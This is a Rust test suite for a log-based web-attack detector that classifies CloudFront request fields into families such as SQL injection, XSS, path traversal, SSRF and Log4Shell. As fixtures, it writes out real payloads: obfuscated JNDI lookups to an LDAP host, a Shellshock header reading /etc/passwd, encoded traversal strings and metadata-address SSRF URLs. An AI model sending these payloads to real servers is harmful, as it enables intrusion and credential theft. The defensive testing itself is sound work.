use super::*;

/// CloudFront's escaping of a logged URL field (its documentation lists the bytes: 0-32, 127-255
/// and `<>"#%{}|\^~[]` backtick and `'`), so tests can be written with the client's bytes.
fn cf(client: &str) -> String {
    let mut out = String::new();
    for &b in client.as_bytes() {
        if b <= 32 || b >= 127 || b"<>\"#%{}|\\^~[]`'".contains(&b) {
            out.push_str(&format!("%{b:02X}"));
        } else {
            out.push(b as char);
        }
    }
    out
}

fn engine() -> &'static Engine {
    super::engine().unwrap_or_else(|e| panic!("{e}"))
}

fn classify(req: &Request) -> Families {
    engine().classify(req, &mut Scratch::default())
}

/// Families of a query string the client sent (CloudFront's escaping applied first).
fn query(client: &str) -> Vec<&'static str> {
    let logged = cf(client);
    classify(&Request::new(None, Some(logged.as_bytes()), None, None)).names().collect()
}

/// Families of a path the client sent.
fn path(client: &str) -> Vec<&'static str> {
    let logged = cf(client);
    classify(&Request::new(Some(logged.as_bytes()), None, None, None)).names().collect()
}

fn agent(ua: &str) -> Vec<&'static str> {
    classify(&Request::new(None, None, None, Some(ua.as_bytes()))).names().collect()
}

fn referer(r: &str) -> Vec<&'static str> {
    classify(&Request::new(None, None, Some(r.as_bytes()), None)).names().collect()
}

/// The request a rule's example stands for, in its logged form.
fn example_request(rule: &Rule, client: &str) -> (Option<String>, Option<String>, Option<String>, Option<String>) {
    match rule.example_subject() {
        Subject::Query => (None, Some(cf(client)), None, None),
        Subject::Path => (Some(cf(client)), None, None, None),
        Subject::Request => match client.split_once('?') {
            Some((p, q)) => (Some(cf(p)), Some(cf(q)), None, None),
            None => (Some(cf(client)), None, None, None),
        },
        Subject::Referer => (None, None, Some(client.to_string()), None),
        Subject::Agent => (None, None, None, Some(client.to_string())),
    }
}

fn bytes(o: &Option<String>) -> Option<&[u8]> {
    o.as_deref().map(str::as_bytes)
}

fn as_req(parts: &(Option<String>, Option<String>, Option<String>, Option<String>)) -> Request<'_> {
    Request::new(bytes(&parts.0), bytes(&parts.1), bytes(&parts.2), bytes(&parts.3))
}

#[test]
fn rules_compile_and_every_family_has_rules() {
    let e = engine();
    for family in FAMILIES.iter().chain([&PROBE]) {
        let n = e.rules().iter().filter(|r| r.family == *family).count();
        assert!(n >= 3, "{family} has {n} rules");
    }
    assert!(e.rules().len() >= 200, "{} rules", e.rules().len());
    // Sorted, distinct family names (attack_types returns them in this order).
    assert!(FAMILIES.windows(2).all(|w| w[0] < w[1]));
}

#[test]
fn every_rule_flags_its_hit_and_nothing_flags_its_miss() {
    let e = engine();
    let mut failures = Vec::new();
    for rule in e.rules() {
        let hit = example_request(rule, rule.hit);
        let (matched, _) = e.explain(&as_req(&hit));
        if !matched.iter().any(|(_, r)| r.index == rule.index) {
            failures.push(format!("{} ({}): hit {:?} not matched", rule.origin, rule.family, rule.hit));
        }
        let miss = example_request(rule, rule.miss);
        let fam = classify(&as_req(&miss));
        if !fam.is_empty() || (rule.family == PROBE && fam.contains(PROBE)) {
            let (why, traversal) = e.explain(&as_req(&miss));
            let names: Vec<String> = why.iter().map(|(_, r)| r.origin.clone()).collect();
            failures.push(format!(
                "{} ({}): miss {:?} flagged {:?} by {names:?} traversal={traversal}",
                rule.origin,
                rule.family,
                rule.miss,
                fam.names().collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{} rule examples fail:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn data_files_are_well_formed() {
    let mut rules = Vec::new();
    for (family, text) in RULE_FILES {
        let before = rules.len();
        parse_file(family, text, &mut rules).unwrap();
        assert!(rules.len() > before, "{family}");
        // A header naming its sources.
        assert!(text.lines().take(20).any(|l| l.starts_with("# Sources") || l.starts_with("# Sources:")), "{family}: no Sources header");
        assert!(text.lines().any(|l| l == "where\tkind\tpattern\thit\tmiss\twhy"), "{family}: no column header");
    }
    // Format errors are reported with the file and line.
    let mut sink = Vec::new();
    let err = parse_file("sqli", "where\tkind\tpattern\thit\tmiss\twhy\nquery\tregex\tUNION\ta\tb\tc\n", &mut sink).unwrap_err();
    assert!(err.contains("sqli.tsv:2") && err.contains("upper-case"), "{err}");
    let err = parse_file("sqli", "nowhere\tregex\tx\ta\tb\tc\n", &mut sink).unwrap_err();
    assert!(err.contains("bad where"), "{err}");
    let err = parse_file("sqli", "query\tregex\tx\ta\tb\n", &mut sink).unwrap_err();
    assert!(err.contains("6 tab-separated columns"), "{err}");
    assert!(parse_file("nofamily", "", &mut sink).is_err());
    // A macro is expanded as a group.
    let mut one = Vec::new();
    parse_file("sqli", "@X\ta|b\nquery\tregex\t^{X}c\th\tm\tw\n", &mut one).unwrap();
    assert_eq!(one[0].regex, "^(?:a|b)c");
}

#[test]
fn families_are_sorted_and_distinct() {
    // Three families from one request, listed alphabetically.
    let logged = cf("/x.php");
    let q = cf("id=1 union select 1,2 from users&f=../../etc/passwd&u=<script>");
    let fam = classify(&Request::new(Some(logged.as_bytes()), Some(q.as_bytes()), None, None));
    assert_eq!(fam.names().collect::<Vec<_>>(), ["path_traversal", "sqli", "xss"]);
    assert_eq!(fam.len(), 3);
    assert!(fam.contains("sqli") && !fam.contains("rfi") && !fam.contains("nonsense"));
    // The same family from several parts is listed once.
    let q = cf("a=' or 1=1--");
    let fam = classify(&Request::new(None, Some(q.as_bytes()), Some(b"x' or 1=1--"), Some(b"' or '1'='1")));
    assert_eq!(fam.names().collect::<Vec<_>>(), ["sqli"]);
    // Nothing: empty, and probe alone is not reported.
    let fam = classify(&Request::new(Some(b"/wp-login.php"), None, None, None));
    assert!(fam.is_empty() && fam.contains(PROBE) && fam.names().next().is_none());
    assert!(classify(&Request::default()).is_empty());
}

#[test]
fn cloudfront_escaping_is_undone_exactly_once() {
    // The client's %27 is logged %2527: a quote.
    assert_eq!(query("id=1%27 or %271%27=%271"), ["sqli"]);
    // The client's literal %2527 (double-encoded quote) is logged %252527: still found.
    assert_eq!(query("id=1%2527 or %25271%2527=%25271"), ["sqli"]);
    // A space the client sent as %20 (logged %2520) is an ordinary space.
    let mut out = Vec::new();
    normalize_into(b"/tag/new%2520york", Part::LoggedPath, &mut out);
    assert_eq!(out, b"/tag/new york");
    assert_eq!(path("/tag/new%20york"), Vec::<&str>::new());
    // Referer and User-Agent arrive decoded: nothing is undone for CloudFront.
    normalize_into(b"a%2527b", Part::UserAgent, &mut out);
    assert_eq!(out, b"a'b");
    normalize_into(b"a%27b", Part::LoggedQuery, &mut out);
    assert_eq!(out, b"a'b");
}

#[test]
fn client_encodings_are_undone() {
    let mut out = Vec::new();
    let norm = |raw: &str, part: Part, out: &mut Vec<u8>| {
        normalize_into(raw.as_bytes(), part, out);
        String::from_utf8_lossy(out).into_owned()
    };
    // + is a space in the query and the referer, not in the path or the user agent.
    assert_eq!(norm("q=union+select", Part::LoggedQuery, &mut out), "q=union select");
    assert_eq!(norm("/a+b", Part::LoggedPath, &mut out), "/a+b");
    assert_eq!(norm("Mozilla/5.0 (+http://x)", Part::UserAgent, &mut out), "mozilla/5.0 (+http://x)");
    assert_eq!(norm("http://x/?q=a+b", Part::Referer, &mut out), "http://x/?q=a b");
    // The client's %2B stays a +.
    assert_eq!(norm("a=1%252B1", Part::LoggedQuery, &mut out), "a=1+1");
    // IIS %u escapes, fullwidth forms, overlong UTF-8, three client levels.
    assert_eq!(norm("%25u0027", Part::LoggedQuery, &mut out), "'");
    assert_eq!(norm("%25uFF1Cscript%25uFF1E", Part::LoggedQuery, &mut out), "<script>");
    assert_eq!(norm("/..%25c0%25af..%25c0%25afetc", Part::LoggedPath, &mut out), "/../../etc");
    assert_eq!(norm("/%25e0%2580%25ae%25e0%2580%25ae/", Part::LoggedPath, &mut out), "/../");
    assert_eq!(norm("%2525252e", Part::LoggedQuery, &mut out), ".");
    assert_eq!(norm("%252525252e", Part::LoggedQuery, &mut out), "%2e");
    // NUL removed, case folded, backslash as slash in the path only.
    assert_eq!(norm("SEL%2500ECT", Part::LoggedQuery, &mut out), "select");
    assert_eq!(norm("/A\\B", Part::LoggedPath, &mut out), "/a/b");
    assert_eq!(norm("A\\B", Part::LoggedQuery, &mut out), "a\\b");
    // HTML character references.
    assert_eq!(norm("%2526lt;script%2526gt;", Part::LoggedQuery, &mut out), "<script>");
    assert_eq!(norm("javascript%2526%252358;alert", Part::LoggedQuery, &mut out), "javascript:alert");
    assert_eq!(norm("%2526%2523x0003C", Part::LoggedQuery, &mut out), "<");
    assert_eq!(norm("a%2526b=1%2526amp;c", Part::LoggedQuery, &mut out), "a&b=1&c");
    // Invalid and truncated escapes are kept.
    assert_eq!(norm("100%25 off %25zz %25u00", Part::LoggedQuery, &mut out), "100% off %zz %u00");
}

#[test]
fn log4j_text_lookups_are_resolved() {
    let mut out = Vec::new();
    let norm = |raw: &str, out: &mut Vec<u8>| {
        normalize_into(raw.as_bytes(), Part::UserAgent, out);
        String::from_utf8_lossy(out).into_owned()
    };
    assert_eq!(norm("${${lower:j}${::-n}d${upper:i}:ldap://x/a}", &mut out), "${jndi:ldap://x/a}");
    assert_eq!(norm("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}", &mut out), "${jndi:ldap://x}");
    assert_eq!(norm("${${date:'j'}ndi:dns://x}", &mut out), "${jndi:dns://x}");
    // Other lookups and plain text stay.
    assert_eq!(norm("${env:HOME} and ${price}", &mut out), "${env:home} and ${price}");
    // Unbalanced and deeply nested input terminates.
    let bomb = "${".repeat(10_000) + &"${::-x}".repeat(1000);
    normalize_into(bomb.as_bytes(), Part::UserAgent, &mut out);
    assert!(out.len() <= bomb.len());
    for ua in [
        "${jndi:ldap://203.0.113.9/a}",
        "${${lower:j}${::-n}di:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "${jNdI:dns://x}",
    ] {
        assert_eq!(agent(ua), ["jndi"], "{ua}");
    }
    assert_eq!(agent("Mozilla/5.0 ${not a lookup}"), Vec::<&str>::new());
}

#[test]
fn path_traversal_by_dot_segments() {
    assert!(climbs_above_root(b"/a/../../etc/passwd"));
    assert!(climbs_above_root(b"/.."));
    assert!(climbs_above_root(b"../x"));
    assert!(!climbs_above_root(b"/blog/2019/../"));
    assert!(!climbs_above_root(b"/a/./b/../c"));
    assert!(!climbs_above_root(b"/files/report..pdf"));
    assert!(climbs_above_root(b"/a/..;/..;/x"));
    for p in [
        "/static/../../etc/hosts",
        "/%2e%2e/%2e%2e/x",
        "/..%5c..%5cwindows",
        "/a/%2e%2e/b",
        "/%252e%252e/%252e%252e/x",
        "/cgi-bin/.%2e/.%2e/.%2e/x",
    ] {
        assert!(path(p).contains(&"path_traversal"), "{p}");
    }
    for p in ["/blog/2019/../", "/blog/2019/../about", "/a/b/../c", "/files/report..pdf", "/v1..2/x"] {
        assert_eq!(path(p), Vec::<&str>::new(), "{p}");
    }
}

#[test]
fn request_parts_and_logged_values() {
    // Real-time logs put the query into cs-uri-stem: split at the first '?'.
    let r = Request::new(Some(b"/a.php?cmd=id"), None, None, None);
    assert_eq!((r.stem, r.query), (Some(&b"/a.php"[..]), Some(&b"cmd=id"[..])));
    // With a query column present the stem is left alone.
    let r = Request::new(Some(b"/a?b"), Some(b"c"), None, None);
    assert_eq!((r.stem, r.query), (Some(&b"/a?b"[..]), Some(&b"c"[..])));
    // Empty values are absent.
    let r = Request::new(Some(b""), Some(b""), Some(b""), Some(b""));
    assert!(r.stem.is_none() && r.query.is_none() && r.referer.is_none() && r.user_agent.is_none());
    // One logged value: a path (with an optional query) when it starts with '/', else a query.
    let r = Request::from_logged_value(b"/x/.env?a=1");
    assert_eq!((r.stem, r.query), (Some(&b"/x/.env"[..]), Some(&b"a=1"[..])));
    let r = Request::from_logged_value(b"id=1%2527");
    assert_eq!((r.stem, r.query), (None, Some(&b"id=1%2527"[..])));
    // The request subject sees path and query together.
    assert_eq!(classify(&Request::from_logged_value(b"/shell.aspx?cmd=whoami")).names().collect::<Vec<_>>(), ["webshell"]);
    assert_eq!(classify(&Request::from_logged_value(b"/report.aspx?cmd=")).names().collect::<Vec<_>>(), ["webshell"]);
    assert!(classify(&Request::from_logged_value(b"cmd=whoami")).is_empty());
}

#[test]
fn issue_examples_are_found() {
    // SQL injection with MySQL executable comments.
    assert_eq!(query("id=-1 /*!50000union*/ /*!50000select*/ 1,2,3--"), ["sqli"]);
    // ThinkPHP invokefunction.
    assert!(query("s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP")
        .contains(&"cmd_injection"));
    // Payloads carried in the Referer.
    assert_eq!(referer("http://x/?id=1' union select password from users--"), ["sqli"]);
    // Traversal with ..%255c (the client's %5c double-encoded) and overlong %c0%af.
    assert_eq!(path("/scripts/..%255c..%255c..%255cwinnt/system32/cmd.exe"), ["known_exploit", "path_traversal"]);
    assert_eq!(path("/..%c0%af..%c0%af..%c0%afetc/passwd"), ["path_traversal"]);
    // Web-shell probes, .env/.git/backups, IIS worms.
    assert_eq!(path("/wso.php"), ["webshell"]);
    assert_eq!(path("/.env"), ["sensitive_file"]);
    assert_eq!(path("/.git/config"), ["sensitive_file"]);
    assert_eq!(path("/www.tar.gz"), ["sensitive_file"]);
    assert_eq!(path("/wp-config.php.bak"), ["sensitive_file"]);
    assert_eq!(path("/scripts/root.exe"), ["known_exploit"]);
    assert_eq!(path("/default.ida"), ["known_exploit"]);
    assert_eq!(path("/GponForm/diag_Form"), ["known_exploit"]);
    // Shellshock in a header.
    assert_eq!(agent("() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"), ["cmd_injection", "path_traversal"]);
}

/// Both parts of a request as the client sent them (CloudFront's escaping applied).
fn request(client_path: &str, client_query: &str) -> Vec<&'static str> {
    let (p, q) = (cf(client_path), cf(client_query));
    classify(&Request::new(Some(p.as_bytes()), Some(q.as_bytes()), None, None)).names().collect()
}

#[test]
fn upload_exploits_and_scripts_where_wordpress_has_none() {
    // Open Flash Chart's upload script inside a Joomla component, as a real scanner sent it (a
    // doubled slash, ?name= a PHP file): the exploit path and the script name to store.
    assert_eq!(
        request("//components/com_jinc/classes/graphics/php-ofc-library/ofc_upload_image.php", "name=style.php"),
        ["known_exploit", "webshell"]
    );
    // The script alone is a known exploit target; its chart-saving use with an image name is not a web shell.
    assert_eq!(request("/php-ofc-library/ofc_upload_image.php", "name=chart.png"), ["known_exploit"]);
    // Script names told to an upload handler: PHP variants, a double extension, ASP.NET; case and
    // the client's encoding do not hide them.
    for q in ["name=x.php5", "filename=x.PHP.jpg", "qqfile=x.aspx", "file_name=x%2Ephp", "id=1&newname=a.phtml&go=1"] {
        assert_eq!(request("/lib/fileupload.php", q), ["webshell"], "{q}");
    }
    // The same names to something that is not an upload handler, or other names to one, are not flagged.
    for (p, q) in [
        ("/search", "name=x.php"),
        ("/lib/fileupload.php", "name=report.pdf"),
        ("/lib/fileupload.php", "name=php-guide.txt"),
        ("/lib/fileupload.php", "filename=x.phpx"),
    ] {
        assert_eq!(request(p, q), Vec::<&str>::new(), "{p}?{q}");
    }
    // PHP directly where WordPress keeps only folders and placeholders; index.php and Hello Dolly
    // are WordPress's own files there, and a plugin's files in its own folder are not judged.
    for p in [
        "/wp-content/plugins/log.php",
        "/blog/wp-content/themes/x.php",
        "/wp-content/mu-plugins/a.php",
        "/wp-content/db.php",
        "/wp-content/plugins/indx.php",
        "/wp-content/plugins/hello1.php",
        "/wp-content/plugins/index.php.suspected",
    ] {
        let expected: &[&str] = if p.ends_with(".suspected") { &[] } else { &["webshell"] };
        assert_eq!(path(p), expected, "{p}");
    }
    for p in [
        "/wp-content/plugins/index.php",
        "/wp-content/plugins/hello.php",
        "/wp-content/index.php",
        "/wp-content/plugins/akismet/akismet.php",
        "/wp-content/themes/twentytwenty/functions.php",
        "/wp-content/plugins/log.txt",
    ] {
        assert_eq!(path(p), Vec::<&str>::new(), "{p}");
    }
    // Include-only and static-asset folders of wp-includes and wp-admin; their real entry points are not flagged.
    for p in ["/wp-includes/wp-tmp.php", "/wp-includes/css/dist/x.php", "/wp-admin/includes/file.php", "/wp-admin/images/x.php"] {
        assert_eq!(path(p), ["webshell"], "{p}");
    }
    for p in [
        "/wp-includes/js/tinymce/wp-tinymce.php",
        "/wp-admin/admin-ajax.php",
        "/wp-admin/load-styles.php",
        "/wp-includes/css/dist/block-library/style.min.css",
    ] {
        assert_eq!(path(p), Vec::<&str>::new(), "{p}");
    }
    // Bundled upload libraries.
    assert_eq!(path("/wp-content/plugins/x/uploadify/uploadify.php"), ["known_exploit"]);
    assert_eq!(path("/assets/jQuery-File-Upload/server/php/index.php"), ["known_exploit"]);
    assert_eq!(path("/server/php/UploadHandler.php"), ["known_exploit"]);
    assert_eq!(path("/docs/server/php/index.php"), Vec::<&str>::new());
}

#[test]
fn ssrf_metadata_address_spellings() {
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/",
        "http://0xA9FEA9FE/",
        "http://0xa9.0xfe.0xa9.0xfe/",
        "http://0251.0376.0251.0376/",
        "http://0251.254.169.0xfe/",
        "http://169.254.43518/",
        "http://169.16689662/",
        "http://025177524776/",
        "http://[fd00:ec2::254]/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://[::ffff:169.254.169.254]/",
        "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/",
        "http://user@2852039166/",
    ] {
        assert_eq!(query(&format!("url={url}")), ["ssrf"], "{url}");
    }
    for benign in [
        "url=https://example.com/",
        "redirect_uri=http://127.0.0.1:8080/callback",
        "id=2852039166",
        "ip=169.254.169.25",
        "url=http://[fd00:ec2::25]/",
    ] {
        assert_eq!(query(benign), Vec::<&str>::new(), "{benign}");
    }
    // Obfuscated loopback.
    for url in ["http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://127.1/", "http://0/", "http://0.0.0.0:6379/"] {
        assert_eq!(query(&format!("url={url}")), ["ssrf"], "{url}");
    }
}

#[test]
fn ssti_probes() {
    for p in ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "${{7*7}}", "*{7*7}", "@(7*7)"] {
        assert_eq!(query(&format!("name={p}")), ["ssti"], "{p}");
    }
    // Unexpanded client-side templates that crawlers request are not SSTI.
    assert_eq!(path("/products/{{product.slug}}"), Vec::<&str>::new());
    assert_eq!(query("q={{name}}"), Vec::<&str>::new());
}

#[test]
fn close_benign_urls_are_not_flagged() {
    for p in [
        "/select-your-plan",
        "/env/",
        "/.well-known/security.txt",
        "/.well-known/acme-challenge/x1",
        "/blog/2019/../",
        "/union-station",
        "/order-by-phone",
        "/scripts/app.js",
        "/cgi-binary/",
        "/c99-vs-c11",
        "/shell-oil/careers",
    ] {
        assert_eq!(path(p), Vec::<&str>::new(), "{p}");
    }
    for q in [
        "q=union+station",
        "sort=order by",
        "sort=order+by+price+desc",
        "redirect=https://example.com",
        "next=/account/settings",
        "q=rock+%26+roll",
        "q=O'Brien",
        "q=c%C3%B4te+d'or",
        "fields=id|name|email",
        "family=Roboto:400|Open+Sans",
        "q=50%25+off",
        "utm_source=newsletter&utm_medium=email",
        "callback=jQuery123_456",
        "q=select+your+size",
        "q=drop+shipping",
        "q=alert+settings",
        "q=script+writing",
        "ts=1700000000&id=2852039166",
        "tags=dog;cat;echo;bird",
        "q=window.open+mdn",
        "file=C:\\fakepath\\photo.jpg",
        "filter={\"price\":{\"gte\":10}}",
        "q=%22rock%22+or+%22pop%22",
        "q=men's+shoes",
        "gclid=Cj0KCQiA--x_y-Zz&fbclid=IwAR2--a",
        "q=l'or+rose",
        "path=/docs/./intro",
    ] {
        assert_eq!(query(q), Vec::<&str>::new(), "{q}");
    }
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 6.2; ARM; Trident/7.0; Touch; rv:11.0; WPDesktop; Lumia 920) like Gecko",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "curl/8.5.0",
        "Wget/1.21.2",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)",
    ] {
        assert_eq!(agent(ua), Vec::<&str>::new(), "{ua}");
    }
}

#[test]
fn hostile_input_is_bounded() {
    let mut s = Scratch::default();
    let e = engine();
    // Invalid UTF-8, lone escapes, NULs: no panic.
    for raw in [&[0xff, 0xc0, 0xe0, 0xf0][..], b"%", b"%u00", b"%c0", b"&#", b"&#x", b"${", b"\0\0", b"?", b"/?"] {
        let _ = e.classify(&Request::new(Some(raw), Some(raw), Some(raw), Some(raw)), &mut s);
        let _ = e.classify(&Request::from_logged_value(raw), &mut s);
    }
    // 1 MB values in every part.
    let big = "%25252e%c0%ae%u002e${::-j}&#60;'".repeat(30_000);
    let fam = e.classify(&Request::new(Some(big.as_bytes()), Some(big.as_bytes()), Some(big.as_bytes()), Some(big.as_bytes())), &mut s);
    assert!(fam.len() <= FAMILIES.len());
    // A numeric character reference too large for u32 is left alone.
    let mut out = Vec::new();
    normalize_into(b"&#99999999999999999999;", Part::UserAgent, &mut out);
    assert_eq!(out, b"&#99999999999999999999;");
}

/// The families of `req` from [`Engine::explain`], which remembers nothing.
fn via_explain(req: &Request) -> Families {
    let (rules, traversal) = engine().explain(req);
    let bits = rules.iter().fold(if traversal { bit("path_traversal") } else { 0 }, |acc, (_, r)| acc | r.bit);
    Families(bits)
}

#[test]
fn remembered_results_match_fresh_ones() {
    // More distinct values than the memo has slots, each seen twice, some longer than what it
    // keeps: every answer equals a fresh scratch's.
    let e = engine();
    let mut s = Scratch::default();
    let values: Vec<String> = (0..2 * MEMO_SLOTS)
        .map(|i| match i % 4 {
            0 => format!("/p{i}/.env"),
            1 => format!("/p{i}/index.html"),
            2 => format!("/p{i}/{}", "a".repeat(MEMO_MAX_LEN)),
            _ => format!("/p{i}/../../../etc/passwd"),
        })
        .collect();
    for _ in 0..2 {
        for v in &values {
            for req in
                [Request::new(Some(v.as_bytes()), None, None, None), Request::new(None, None, Some(v.as_bytes()), Some(v.as_bytes()))]
            {
                assert_eq!(e.classify(&req, &mut s), via_explain(&req), "{v}");
            }
        }
    }
    // A remembered path still feeds the request subject.
    let p = cf("/x.php");
    assert!(e.classify(&Request::new(Some(p.as_bytes()), None, None, None), &mut s).is_empty());
    assert_eq!(
        e.classify(&Request::new(Some(p.as_bytes()), Some(b"cmd=id"), None, None), &mut s).names().collect::<Vec<_>>(),
        ["webshell"]
    );
    // A request rule without the '?' is refused.
    assert!(parse_file("webshell", "request\tregex\t\\.php$\ta\tb\tc\n", &mut Vec::new()).unwrap_err().contains("request rule"));
}

#[test]
fn scratch_reuse_gives_the_same_answers() {
    let e = engine();
    let mut s = Scratch::default();
    let cases: Vec<(Option<String>, Option<String>)> = vec![
        (Some(cf("/.env")), None),
        (None, Some(cf("id=1 union select 1"))),
        (Some(cf("/index.html")), Some(cf("a=1"))),
        (Some(cf("/x.php")), Some(cf("cmd=id"))),
    ];
    let first: Vec<Families> = cases
        .iter()
        .map(|(p, q)| e.classify(&Request::new(p.as_deref().map(str::as_bytes), q.as_deref().map(str::as_bytes), None, None), &mut s))
        .collect();
    for _ in 0..3 {
        for ((p, q), want) in cases.iter().zip(&first) {
            let got = e.classify(&Request::new(p.as_deref().map(str::as_bytes), q.as_deref().map(str::as_bytes), None, None), &mut s);
            assert_eq!(got, *want);
            assert_eq!(
                got,
                e.classify(
                    &Request::new(p.as_deref().map(str::as_bytes), q.as_deref().map(str::as_bytes), None, None),
                    &mut Scratch::default()
                )
            );
        }
    }
}
